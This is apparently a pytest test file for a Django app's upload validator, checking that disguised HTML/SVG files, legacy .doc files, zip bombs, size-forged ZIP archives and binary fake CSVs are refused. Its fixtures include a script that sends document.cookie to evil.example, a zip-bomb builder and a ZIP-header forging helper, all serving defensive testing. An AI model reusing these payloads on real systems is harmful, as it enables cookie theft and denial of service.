"""One upload validator for every uploaded file (common/uploads.py): what a file is comes from its
content, a Word, OpenDocument or Excel file (a ZIP archive) may not unpack to more than
UPLOAD_MAX_INFLATED_BYTES nor hold more than UPLOAD_MAX_ZIP_ENTRIES entries, and the old .doc is
refused. Each finding of the probe is reproduced here through the page the person uses."""

import datetime
import functools
import io
import zipfile

import pytest
from django.apps import apps
from django.core.files.base import ContentFile
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.db import models
from django.urls import reverse
from openpyxl import Workbook

from caseload.models import Upload
from common.uploads import UploadValidator, validate_import_file
from documents.models import Document
from employers.models import Agreement

pytestmark = pytest.mark.django_db

PDF = b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
HTML = b"<html><body><script>document.location='https://evil.example/'+document.cookie</script></body></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script></svg>'
# An OLE2 compound file with the Word 97-2003 signature: a legacy .doc (macros).
LEGACY_DOC = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504 + b"\xec\xa5\xc1\x00" + b"\x00" * 512
DOCX_PARTS = [("[Content_Types].xml", "<Types/>"), ("word/document.xml", "<w:document/>")]
XLSX_PARTS = [("[Content_Types].xml", "<Types/>"), ("xl/workbook.xml", "<workbook/>")]
CSV = "rijksregisternummer;voornaam;achternaam;traject_type;traject_start\n" \
      "90.02.01-002.29;Sara;Janssens;opleiding;2025-01-06\n"


def zipped(entries):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in entries:
            archive.writestr(name, content)
    return buffer.getvalue()


def docx():
    return zipped(DOCX_PARTS)


def odt():
    """As LibreOffice writes it: the 'mimetype' entry first and not compressed."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.text", compress_type=zipfile.ZIP_STORED)
        archive.writestr("content.xml", "<office:document/>")
    return buffer.getvalue()


def xlsx():
    workbook = Workbook()
    for row in CSV.splitlines():
        workbook.active.append(row.split(";"))
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


@functools.cache
def bomb(*parts):
    """The probe's zip bomb: the parts of a real document and one entry of 120 MB of zeros (about 120 KB)."""
    return zipped([*parts, ("word/media/image1.bin", bytes(120 * 1024 * 1024))])


def lying(archive):
    """The archive with its last entry's unpacked size stated as 10 bytes, in its directory and its
    local header: only unpacking it shows how far it goes."""
    data = bytearray(archive)
    directory = data.rfind(b"PK\x01\x02")
    header = int.from_bytes(data[directory + 42:directory + 46], "little")
    data[directory + 24:directory + 28] = data[header + 22:header + 26] = (10).to_bytes(4, "little")
    return bytes(data)


def stored_files(settings):
    return [path for path in settings.MEDIA_ROOT.rglob("*") if path.is_file()] if settings.MEDIA_ROOT.exists() else []


def add_agreement(http, world, name, content):
    return http.post(reverse("employers:agreement_create", args=[world.employer.pk]), {
        "start_date": "01/01/2026", "end_date": "", "note": "", "document": SimpleUploadedFile(name, content)})


def add_document(http, world, name, content):
    return http.post(reverse("documents:add", args=[world.client.pk]), {
        "document-kind": "gpmi", "document-date": datetime.date.today().strftime("%d/%m/%Y"),
        "document-description": "", "document-file": SimpleUploadedFile(name, content)})


def import_upload(http, name, content):
    return http.post(reverse("caseload:import"), {"file": SimpleUploadedFile(name, content)})


def refused_agreement(world, login, settings, name, content, message):
    response = add_agreement(login(world.hilde), world, name, content)
    assert response.status_code == 422 and message in response.content.decode()
    assert not Agreement.objects.exists() and stored_files(settings) == []


# The agreement documents: checked by their extension only before (the probe's first finding).

def test_an_html_page_named_pdf_is_refused_as_an_agreement_document(world, login, settings):
    refused_agreement(world, login, settings, "contract.pdf", HTML,
                      "contract.pdf is geen document dat dit systeem bewaart: kies een bestand in PDF, Word (.docx) of "
                      "OpenDocument (.odt).")


def test_an_svg_image_named_odt_is_refused_as_an_agreement_document(world, login, settings):
    refused_agreement(world, login, settings, "overeenkomst.odt", SVG, "overeenkomst.odt is geen document")


def test_a_legacy_word_file_is_refused_with_advice(world, login, settings):
    message = "contract.doc is in het oude Word-formaat (.doc), dat niet aanvaard wordt: bewaar het als .docx of PDF."
    refused_agreement(world, login, settings, "contract.doc", LEGACY_DOC, message)
    response = add_document(login(world.alice), world, "contract.doc", LEGACY_DOC)
    assert response.status_code == 422 and message in response.content.decode()
    assert not Document.objects.exists()


# Zip bombs: accepted as case-file documents before (the probe's second finding), and everywhere else.

def test_a_zip_bomb_docx_is_refused_as_a_case_file_document(world, login, settings):
    response = add_document(login(world.alice), world, "contract.docx", bomb(*DOCX_PARTS))
    page = response.content.decode()
    assert response.status_code == 422 and "contract.docx pakt uit tot meer dan 100,0" in page
    assert "dat is geen gewoon document" in page
    assert not Document.objects.exists() and stored_files(settings) == []


def test_a_zip_bomb_docx_is_refused_as_an_agreement_document(world, login, settings):
    refused_agreement(world, login, settings, "overeenkomst.docx", bomb(*DOCX_PARTS),
                      "overeenkomst.docx pakt uit tot meer dan 100,0")


def test_an_xlsx_bomb_is_refused_by_the_import_upload_and_the_import_command(world, login, tmp_path):
    response = import_upload(login(world.hilde), "caseload.xlsx", bomb(*XLSX_PARTS))
    assert response.status_code == 422 and "caseload.xlsx pakt uit tot meer dan 100,0" in response.content.decode()
    assert not Upload.objects.exists()
    path = tmp_path / "caseload.xlsx"
    path.write_bytes(bomb(*XLSX_PARTS))
    error = io.StringIO()
    with pytest.raises(SystemExit):
        call_command("import_caseload", str(path), "--organisation", world.menen.slug, stderr=error)
    assert "caseload.xlsx pakt uit tot meer dan 100,0" in error.getvalue()


def test_an_archive_whose_directory_lies_about_its_size_is_unpacked_to_find_out(world, login, settings):
    settings.UPLOAD_MAX_INFLATED_BYTES = 1024 * 1024
    archive = lying(zipped([*DOCX_PARTS, ("word/media/image1.bin", bytes(4 * 1024 * 1024))]))
    with zipfile.ZipFile(io.BytesIO(archive)) as stated:
        assert sum(entry.file_size for entry in stated.infolist()) < 100  # what the directory says
    response = add_document(login(world.alice), world, "cv.docx", archive)
    assert response.status_code == 422 and "cv.docx pakt uit tot meer dan 1,0" in response.content.decode()
    assert not Document.objects.exists()


def test_an_archive_with_too_many_entries_is_refused(world, login, settings):
    many = zipped([*DOCX_PARTS, *((f"word/media/{number}.xml", "<x/>") for number in range(1000))])
    response = add_document(login(world.alice), world, "cv.docx", many)
    assert response.status_code == 422
    assert "cv.docx bevat meer dan 1000 bestanden; dat is geen gewoon document." in response.content.decode()
    settings.UPLOAD_MAX_ZIP_ENTRIES = 5
    response = import_upload(login(world.hilde), "caseload.xlsx", xlsx())
    assert response.status_code == 422 and "caseload.xlsx bevat meer dan 5 bestanden" in response.content.decode()
    assert not Document.objects.exists() and not Upload.objects.exists()


def test_a_csv_must_be_text(world, login):
    response = import_upload(login(world.hilde), "caseload.csv", CSV.encode() + b"\x00\x01\x02\x7fELF")
    assert response.status_code == 422 and "caseload.csv is geen CSV- of XLSX-bestand." in response.content.decode()
    assert not Upload.objects.exists()


# Ordinary files pass everywhere.

@pytest.mark.parametrize("name, content, content_type", [
    ("overeenkomst.pdf", PDF, "application/pdf"),
    ("overeenkomst.docx", docx(), "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
    ("overeenkomst.odt", odt(), "application/vnd.oasis.opendocument.text"),
])
def test_an_ordinary_agreement_document_is_kept_and_served_as_what_it_is(world, login, name, content, content_type):
    http = login(world.hilde)
    assert add_agreement(http, world, name, content).status_code == 302
    agreement = Agreement.objects.get()
    download = http.get(reverse("employers:agreement_document", args=[world.employer.pk, agreement.pk]))
    assert download.status_code == 200 and b"".join(download.streaming_content) == content
    assert download["Content-Type"] == content_type and "no-store" in download["Cache-Control"]


@pytest.mark.parametrize("name, content", [("cv.docx", docx()), ("cv.odt", odt()), ("scan.pdf", PDF)])
def test_an_ordinary_case_file_document_is_kept(world, login, name, content):
    assert add_document(login(world.alice), world, name, content).status_code == 302
    assert Document.objects.get().filename == name


@pytest.mark.parametrize("name, content", [
    ("caseload.xlsx", xlsx()), ("caseload.csv", CSV.encode()), ("caseload.csv", CSV.encode("cp1252"))])
def test_an_ordinary_caseload_file_is_uploaded(world, login, name, content):
    response = import_upload(login(world.hilde), name, content)
    assert response.status_code == 302 and Upload.objects.get().filename == name


# Files stored before this check stay valid and downloadable.

def stored_agreement(world, name, content):
    agreement = Agreement.objects.create(employer=world.employer, start_date=datetime.date(2024, 1, 1))
    agreement.document.save(name, ContentFile(content))
    return agreement


def test_a_stored_legacy_doc_stays_downloadable_and_its_agreement_editable(world, login):
    agreement = stored_agreement(world, "oud-contract.doc", LEGACY_DOC)
    http = login(world.hilde)
    download = http.get(reverse("employers:agreement_document", args=[world.employer.pk, agreement.pk]))
    assert download.status_code == 200 and b"".join(download.streaming_content) == LEGACY_DOC
    assert download["Content-Type"] == "application/octet-stream"
    response = http.post(reverse("employers:agreement_edit", args=[world.employer.pk, agreement.pk]), {
        "start_date": "01/01/2024", "end_date": "31/12/2026", "note": ""})
    assert response.status_code == 302
    agreement.refresh_from_db()
    assert agreement.end_date == datetime.date(2026, 12, 31) and agreement.document.name.endswith(".doc")


def test_a_stored_page_named_pdf_is_not_served_as_a_pdf_or_a_page(world, login):
    agreement = stored_agreement(world, "contract.pdf", HTML)
    download = login(world.alice).get(reverse("employers:agreement_document", args=[world.employer.pk, agreement.pk]))
    assert download.status_code == 200 and download["Content-Type"] == "application/octet-stream"


# One validator, on every uploaded file field.

# Model file fields that no one uploads to, with the reason.
NOT_UPLOADED = {
    ("reporting", "YearlyReport", "pdf"): "rendered by the yearly-report task (reporting), never uploaded",
}


def test_every_file_field_has_the_one_upload_validator():
    file_fields = {(model._meta.app_label, model.__name__, field.name): field
                   for model in apps.get_models() for field in model._meta.get_fields()
                   if isinstance(field, models.FileField)}
    assert set(NOT_UPLOADED) <= set(file_fields), "an exception names a field that no longer exists"
    unchecked = [key for key, field in file_fields.items() if key not in NOT_UPLOADED
                 and not any(isinstance(validator, UploadValidator) for validator in field.validators)]
    assert unchecked == []
    assert {("documents", "Document", "file"), ("employers", "Agreement", "document")} <= set(file_fields)

    from web.caseload.forms import UploadForm

    assert validate_import_file in UploadForm.base_fields["file"].validators


def test_the_validator_is_written_into_migrations_by_its_kinds():
    validator = UploadValidator(kinds=("pdf", "docx"))
    assert validator.deconstruct() == ("common.uploads.UploadValidator", (), {"kinds": ("pdf", "docx")})
    assert validator == UploadValidator(kinds=["pdf", "docx"]) != UploadValidator(kinds=("pdf",))
